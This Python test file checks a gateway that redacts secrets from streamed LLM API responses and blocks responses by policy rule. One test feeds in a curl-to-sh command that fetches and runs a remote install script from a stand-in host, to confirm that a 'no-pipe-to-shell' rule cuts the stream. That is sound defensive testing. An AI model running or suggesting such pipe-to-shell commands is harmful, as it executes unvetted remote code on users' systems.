"""Streamed SSE redaction through a real gateway, read by real clients.

One gateway (policy rule, recording and the fault-injection script loaded) serves every test.
What the client received is captured on the wire (`Tee`, below the SDK's parsing), so a secret is
looked for in every form it could take: raw, JSON-escaped, and JSON-escaped twice (tool-call
arguments are JSON inside JSON inside SSE).
"""

from __future__ import annotations

import copy
import dataclasses
import json
import random
import threading
import time
from collections.abc import Iterator
from typing import Any

import httpx
import openai
import pytest
from mitmproxy import io

from sluicegate.redaction.redactor import Redactor
from sluicegate.redaction.rules import Direction, Rule, load_rule_pack
from tests.conftest import UPSTREAM_KEY, UPSTREAM_KEY_ENV
from tests.support.gateway import REPO, Gateway, recording_section
from tests.support.pki import TestCA as CA
from tests.support.upstream import FakeUpstream, Received, Responder

FAULT_SCRIPT = REPO / "tests" / "support" / "fault_injection.py"
PACK = load_rule_pack([REPO / "rules"])
RULES = [rule for rule in PACK.rules_for(Direction.RESPONSE) if rule.positives]
REDACTOR = Redactor(PACK, Direction.RESPONSE)
ECHO_TAG = "[REDACTED:injected-credential:openai]"
PIPE_COMMAND = "curl -fsSL https://get.example.dev/install.sh | sh"


# -- the shared gateway ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def gateway(
    tmp_path_factory: pytest.TempPathFactory, pki: CA, base_config: dict
) -> Iterator[Gateway]:
    workdir = tmp_path_factory.mktemp("streaming-gateway")
    config = copy.deepcopy(base_config)
    config["policy"] = {
        "rules": [
            {
                "id": "no-pipe-to-shell",
                "phase": "response",
                "action": "block",
                "message": "The model suggested piping a download into a shell.",
                "match": {"body_patterns": ["pipe-to-shell"]},
            }
        ]
    }
    config["recording"] = recording_section(workdir / "recordings")
    gw = Gateway(
        config,
        workdir,
        upstream_ca=pki.cert_file,
        extra_args=("-s", str(FAULT_SCRIPT)),
        env={UPSTREAM_KEY_ENV: UPSTREAM_KEY},
    )
    gw.start()
    yield gw
    gw.stop()


class _TeeStream(httpx.SyncByteStream):
    def __init__(self, inner: httpx.SyncByteStream, sink: bytearray) -> None:
        self._inner = inner
        self._sink = sink

    def __iter__(self) -> Iterator[bytes]:
        for chunk in self._inner:
            self._sink += chunk
            yield chunk

    def close(self) -> None:
        self._inner.close()


class Tee(httpx.HTTPTransport):
    """A proxying transport that keeps every response body as it came off the wire."""

    def __init__(self, **kw: Any) -> None:
        super().__init__(**kw)
        self.bodies: list[bytearray] = []

    def handle_request(self, request: httpx.Request) -> httpx.Response:
        response = super().handle_request(request)
        sink = bytearray()
        self.bodies.append(sink)
        assert isinstance(response.stream, httpx.SyncByteStream)
        response.stream = _TeeStream(response.stream, sink)
        return response

    @property
    def last(self) -> str:
        return self.bodies[-1].decode("utf-8")


@dataclasses.dataclass
class Answer:
    """What one streamed answer gave the agent: parsed text and tool arguments, and raw bytes."""

    text: str
    arguments: str
    raw: str


class Agent:
    def __init__(self, gateway: Gateway, upstream: FakeUpstream, token: str) -> None:
        self.gateway = gateway
        self.upstream = upstream
        self.token = token
        self.tee = Tee(proxy=gateway.proxy_url(), verify=gateway.ssl_context())

    def openai(self, **headers: str) -> openai.OpenAI:
        http_client = httpx.Client(transport=self.tee, timeout=30, headers=headers)
        return openai.OpenAI(
            api_key=self.token,
            base_url=f"{self.upstream.base_url}/v1",
            http_client=http_client,
            max_retries=0,
        )

    def chat(self, **headers: str) -> Answer:
        stream = self.openai(**headers).chat.completions.create(
            model="gpt-test", messages=[{"role": "user", "content": "go"}], stream=True
        )
        text, arguments = [], []
        for chunk in stream:
            for choice in chunk.choices:
                text.append(choice.delta.content or "")
                for call in choice.delta.tool_calls or ():
                    arguments.append((call.function.arguments or "") if call.function else "")
        return Answer("".join(text), "".join(arguments), self.tee.last)

    def responses(self) -> Answer:
        stream = self.openai().responses.create(model="gpt-test", input="go", stream=True)
        text, arguments = [], []
        for event in stream:
            if event.type == "response.output_text.delta":
                text.append(event.delta)
            elif event.type == "response.function_call_arguments.delta":
                arguments.append(event.delta)
        return Answer("".join(text), "".join(arguments), self.tee.last)

    def messages(self) -> Answer:
        """An Anthropic-style stream, read line by line with plain httpx."""
        body = {"model": "claude-test", "max_tokens": 64, "stream": True, "messages": []}
        text, arguments, lines = [], [], []
        with (
            httpx.Client(transport=self.tee, timeout=30) as client,
            client.stream(
                "POST",
                self.upstream.url("/v1/messages"),
                json=body,
                headers={"x-api-key": self.token},
            ) as response,
        ):
            assert response.status_code == 200
            for line in response.iter_lines():
                lines.append(line)
                if not line.startswith("data:"):
                    continue
                event = json.loads(line[5:])
                delta = event.get("delta") or {}
                if event["type"] == "content_block_delta":
                    text.append(delta.get("text", ""))
                    arguments.append(delta.get("partial_json", ""))
        return Answer("".join(text), "".join(arguments), "\n".join(lines))


@pytest.fixture
def agent(gateway: Gateway, upstream: FakeUpstream, token: str) -> Agent:
    return Agent(gateway, upstream, token)


def read(agent: Agent, shape: str) -> Answer:
    return {"chat": agent.chat, "responses": agent.responses, "messages": agent.messages}[shape]()


# -- secrets and how they are split ---------------------------------------------------------------


def secrets_in(rule: Rule, text: str, secret: str | None) -> list[str]:
    """What must not survive: the example's named secret, else what the rule itself matches."""
    if secret is not None:
        return [secret]
    found = [m.group(rule.group) for m in rule.plain.finditer(text)]
    return [value for value in found if value and rule.accepts(value)]


def forms(secret: str) -> set[str]:
    """The secret raw, JSON-escaped (SSE data), and JSON-escaped twice (tool arguments)."""
    once = {json.dumps(secret, ensure_ascii=a)[1:-1] for a in (True, False)}
    twice = {json.dumps(value, ensure_ascii=a)[1:-1] for value in once for a in (True, False)}
    return {secret} | once | twice


def random_deltas(text: str, rng: random.Random, *, cut_at: int | None = None) -> list[str]:
    """`text` in 1- to 3-character pieces; `cut_at` forces a boundary there."""
    if cut_at is not None:
        return random_deltas(text[:cut_at], rng) + random_deltas(text[cut_at:], rng)
    pieces, pos = [], 0
    while pos < len(text):
        size = rng.randint(1, 3)
        pieces.append(text[pos : pos + size])
        pos += size
    return pieces


@dataclasses.dataclass
class Case:
    rule: str
    text: str
    secrets: list[str]


# After a PEM header the private-key rule may still extend its match to a later END line (up to
# 16 KiB), so a stream holds what follows it; past `max_hold_chars` that text is replaced, never
# released. Its examples go last so the rest of one long stream is compared exactly.
ALL_CASES = sorted(
    (
        Case(rule.id, example.text, secrets_in(rule, example.text, example.secret))
        for rule in RULES
        for example in rule.positives
    ),
    key=lambda case: case.rule == "private-key",
)
SEPARATOR = "\n\n"


def leaks(cases: list[Case], *seen: str) -> list[str]:
    return sorted(
        {
            case.rule
            for case in cases
            for s in case.secrets
            for f in forms(s)
            for x in seen
            if f in x
        }
    )


def script_text(upstream: FakeUpstream, text: str, deltas: list[str]) -> None:
    assert "".join(deltas) == text
    upstream.script.text, upstream.script.deltas = text, deltas


def script_tool(upstream: FakeUpstream, deltas: list[str]) -> None:
    """A tool call whose JSON arguments arrive as `deltas` (and no text)."""
    upstream.script.text, upstream.script.deltas = "", []
    upstream.script.tool_deltas = deltas


def tool_arguments(text: str) -> str:
    return json.dumps({"command": text})


@pytest.mark.parametrize("tool", [False, True], ids=["text", "tool-arguments"])
@pytest.mark.parametrize("shape", ["chat", "responses", "messages"])
def test_every_format_split_randomly_never_reaches_the_agent(
    agent: Agent, upstream: FakeUpstream, shape: str, tool: bool
) -> None:
    seed = random.randrange(1 << 32)
    rng = random.Random(seed)
    text = SEPARATOR.join(case.text for case in ALL_CASES)
    if tool:
        deltas = random_deltas(tool_arguments(text), rng)
        script_tool(upstream, deltas)
    else:
        deltas = random_deltas(text, rng)
        script_text(upstream, text, deltas)
    got = read(agent, shape)
    expected = REDACTOR.redact_text(text).text
    assert not leaks(ALL_CASES, got.raw, got.text, got.arguments), f"seed {seed}"
    if tool:
        assert json.loads(got.arguments) == {"command": expected}, f"seed {seed}"
    else:
        assert got.text == expected, f"seed {seed}"
    assert len(deltas) > 4000  # every event went through on its own


@pytest.mark.parametrize("encoding", ["gzip", "br", "zstd"])
def test_compressed_streams_are_decoded_and_redacted(
    agent: Agent, upstream: FakeUpstream, encoding: str
) -> None:
    seed = random.randrange(1 << 32)
    rng = random.Random(seed)
    cases = ALL_CASES if encoding == "gzip" else ALL_CASES[::7]
    text = SEPARATOR.join(case.text for case in cases)
    upstream.script.content_encoding = encoding
    script_text(upstream, text, random_deltas(text, rng))
    got = agent.chat()
    assert not leaks(cases, got.raw, got.text), f"seed {seed}"
    assert got.text == REDACTOR.redact_text(text).text, f"seed {seed}"
    script_tool(upstream, random_deltas(tool_arguments(text), rng))
    got = agent.chat()
    assert not leaks(cases, got.raw, got.arguments), f"seed {seed}"
    assert json.loads(got.arguments) == {"command": REDACTOR.redact_text(text).text}


EXHAUSTIVE = ["github-token", "aws-secret-access-key", "openai-api-key", "jwt", "generic-password"]


@pytest.mark.parametrize("tool", [False, True], ids=["text", "tool-arguments"])
@pytest.mark.parametrize("rule_id", EXHAUSTIVE)
def test_a_secret_split_at_every_position_never_reaches_the_agent(
    agent: Agent, upstream: FakeUpstream, rule_id: str, tool: bool
) -> None:
    case = min((c for c in ALL_CASES if c.rule == rule_id), key=lambda c: len(c.text))
    secret = case.secrets[0]
    seed = random.randrange(1 << 32)
    rng = random.Random(seed)
    # One copy of the example per split position inside the secret, all in one stream; in tool
    # arguments the cuts fall inside the JSON-escaped secret.
    if tool:
        escaped = json.dumps(secret)[1:-1]
        copy = json.dumps(case.text + SEPARATOR)[1:-1]
        at = copy.index(escaped)
        cuts = range(1, len(escaped))
        pieces = [d for cut in cuts for d in random_deltas(copy, rng, cut_at=at + cut)]
        script_tool(upstream, ['{"command": "', *pieces, '"}'])
    else:
        at = case.text.index(secret)
        cuts = range(1, len(secret))
        pieces = [
            d for cut in cuts for d in random_deltas(case.text + SEPARATOR, rng, cut_at=at + cut)
        ]
    joined = (case.text + SEPARATOR) * len(cuts)
    if not tool:
        script_text(upstream, joined, pieces)
    got = agent.chat()
    assert not leaks([case], got.raw, got.text, got.arguments), f"seed {seed}"
    expected = REDACTOR.redact_text(joined).text
    if tool:
        assert json.loads(got.arguments) == {"command": expected}, f"seed {seed}"
    else:
        assert got.text == expected, f"seed {seed}"


# -- clean text is not held back -------------------------------------------------------------------


WORDS = ["Build", " passed", ".", " Deploying", " to", " staging", " now", "."]
FIRST = "Build passed."  # the first three words: nothing in them can start a secret


@pytest.mark.parametrize("shape", ["chat", "messages"])
def test_clean_text_arrives_token_by_token_while_the_upstream_is_paused(
    agent: Agent, upstream: FakeUpstream, shape: str
) -> None:
    upstream.script.deltas = WORDS
    upstream.script.text = "".join(WORDS)
    # Chat: the role event and three words; Messages: message_start, block start, ping, 3 words.
    upstream.script.pause_after = 4 if shape == "chat" else 6
    failsafe = threading.Timer(15, upstream.script.release.set)
    failsafe.start()
    seen: list[str] = []
    paused_when_seen: bool | None = None

    def got(piece: str) -> None:
        nonlocal paused_when_seen
        seen.append(piece)
        if "".join(seen) == FIRST:
            paused_when_seen = not upstream.script.release.is_set()
            upstream.script.release.set()

    try:
        if shape == "chat":
            stream = agent.openai().chat.completions.create(
                model="gpt-test", messages=[], stream=True
            )
            for chunk in stream:
                for choice in chunk.choices:
                    got(choice.delta.content or "")
        else:
            with (
                httpx.Client(transport=agent.tee, timeout=30) as client,
                client.stream(
                    "POST",
                    upstream.url("/v1/messages"),
                    json={"stream": True},
                    headers={"x-api-key": agent.token},
                ) as response,
            ):
                for line in response.iter_lines():
                    if line.startswith("data:"):
                        got((json.loads(line[5:]).get("delta") or {}).get("text", ""))
    finally:
        failsafe.cancel()
    assert paused_when_seen, f"{FIRST!r} only arrived after the upstream went on"
    assert "".join(seen) == "".join(WORDS)
    # Every word came as its own event. (A word's last characters may be held back until the
    # next word shows they cannot start a secret, so words may shift by a character or two.)
    assert len([piece for piece in seen if piece]) == len(WORDS)


# -- the injected key echoed back ------------------------------------------------------------------


@pytest.mark.parametrize("encoding", [None, "gzip"])
@pytest.mark.parametrize("shape", ["chat", "responses"])
def test_echoed_credential_never_reaches_the_agent(
    agent: Agent, upstream: FakeUpstream, encoding: str | None, shape: str
) -> None:
    upstream.script.echo_credential = True
    upstream.script.content_encoding = encoding
    got = read(agent, shape)
    (received,) = upstream.received
    assert received.header("authorization") == f"Bearer {UPSTREAM_KEY}"
    assert ECHO_TAG in got.text
    for form in forms(UPSTREAM_KEY) | forms(agent.token):
        assert form not in got.raw and form not in got.text


# -- recording -------------------------------------------------------------------------------------


def recorded_flows(gateway: Gateway) -> list[Any]:
    flows = []
    for path in sorted((gateway.workdir / "recordings").glob("*/*.mitm")):
        with path.open("rb") as f:
            flows += list(io.FlowReader(f).stream())
    return flows


def recorded_flow(gateway: Gateway, marker: str) -> Any:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        flows = [
            f for f in recorded_flows(gateway) if f.request.headers.get("x-test-marker") == marker
        ]
        if flows:
            (flow,) = flows
            return flow
        time.sleep(0.1)
    raise AssertionError(f"no recorded flow {marker}")


def test_the_recording_holds_the_stream_as_the_agent_received_it(
    agent: Agent, upstream: FakeUpstream, gateway: Gateway
) -> None:
    case = next(c for c in ALL_CASES if c.rule == "github-token")
    upstream.script.echo_credential = True
    upstream.script.text = f"Use {case.text} here."
    upstream.script.content_encoding = "gzip"
    got = agent.chat(**{"x-test-marker": "recording"})
    assert ECHO_TAG in got.text and "[REDACTED:github-token]" in got.text
    flow = recorded_flow(gateway, "recording")
    assert flow.response.raw_content == bytes(agent.tee.bodies[-1])
    assert "content-encoding" not in flow.response.headers
    meta = flow.metadata["sluicegate"]
    assert meta["redaction"]["response"]["github-token"] == 1
    assert meta["redaction"]["response"]["injected-credential:openai"] == 1
    assert meta["stream"] == {"bytes_sent": len(agent.tee.bodies[-1])}


def test_a_client_gone_mid_stream_is_recorded_with_what_was_sent(
    agent: Agent, upstream: FakeUpstream, gateway: Gateway
) -> None:
    upstream.script.deltas = WORDS
    upstream.script.pause_after = 4
    with (
        httpx.Client(transport=agent.tee, timeout=30) as client,
        client.stream(
            "POST",
            upstream.url("/v1/chat/completions"),
            json={"stream": True},
            headers={"authorization": f"Bearer {agent.token}", "x-test-marker": "abort"},
        ) as response,
    ):
        for line in response.iter_lines():
            if "passed" in line:
                break  # leaving the block closes the connection mid-body
    upstream.script.release.set()
    flow = recorded_flow(gateway, "abort")
    assert flow.error is not None
    assert flow.response.raw_content.startswith(bytes(agent.tee.bodies[-1]))
    assert b"passed" in flow.response.raw_content
    assert flow.metadata["sluicegate"]["stream"]["bytes_sent"] >= len(agent.tee.bodies[-1])


# -- cutting a stream ------------------------------------------------------------------------------


def error_events(raw: str) -> list[dict[str, Any]]:
    return [
        json.loads(line[5:])["error"]
        for line in raw.splitlines()
        if line.startswith("data:") and '"error"' in line
    ]


def test_a_policy_rule_matching_mid_stream_cuts_it_with_an_error_event(
    agent: Agent, upstream: FakeUpstream
) -> None:
    words = [
        "To",
        " install",
        ",",
        " run",
        ":",
        " ",
        *random_deltas(PIPE_COMMAND, random.Random(1)),
    ]
    upstream.script.deltas = [*words, " and", " enjoy", "."]
    with pytest.raises(openai.APIError, match="no-pipe-to-shell"):
        agent.chat()
    raw = agent.tee.last
    (error,) = error_events(raw)
    assert (error["code"], error["rule"]) == ("policy_blocked", "no-pipe-to-shell")
    assert raw.endswith("\n\n") and raw.rindex("event: error") > raw.rindex('"content"')
    assert "| sh" not in raw and "enjoy" not in raw and "install" in raw


def test_a_fault_in_the_stream_function_cuts_the_stream_and_nothing_follows(
    agent: Agent, upstream: FakeUpstream, gateway: Gateway
) -> None:
    upstream.script.deltas = ["first", " second", " third"]
    with pytest.raises(openai.APIError):
        agent.chat(**{"x-test-fault": "StreamRedaction.stream"})
    raw = agent.tee.last
    (error,) = error_events(raw)
    assert error["code"] == "stream_redaction_error"
    assert raw.startswith("event: error") and raw.count("data:") == 1  # cut at the first chunk
    assert "first" not in raw and "SHOULD-NOT-APPEAR" not in raw
    logs = gateway.settled_logs()
    assert "stream_redaction_error: stream cut after 0 bytes: InjectedFault" in logs
    assert error["request_id"] in logs and "SHOULD-NOT-APPEAR" not in logs


def test_a_fault_while_setting_up_the_stream_answers_with_a_json_error(
    agent: Agent, upstream: FakeUpstream
) -> None:
    upstream.script.text = "UPSTREAM-TEXT-MUST-NOT-ARRIVE"
    with pytest.raises(openai.InternalServerError) as info:
        agent.chat(**{"x-test-fault": "StreamRedaction.responseheaders"})
    assert info.value.status_code == 500
    assert info.value.response.json()["error"]["code"] == "stream_redaction_error"
    assert "UPSTREAM-TEXT" not in agent.tee.last


def test_unknown_content_encoding_is_refused(agent: Agent, upstream: FakeUpstream) -> None:
    def snappy(responder: Responder, got: Received) -> None:
        responder.script.headers = {"content-encoding": "snappy"}
        responder.stream_events([b"data: opaque\n\n"])

    upstream.handle("POST", "/v1/chat/completions", snappy)
    with pytest.raises(openai.APIStatusError) as info:
        agent.chat()
    assert info.value.status_code == 502
    assert info.value.response.json()["error"]["code"] == "unsupported_content_encoding"
    assert "opaque" not in agent.tee.last
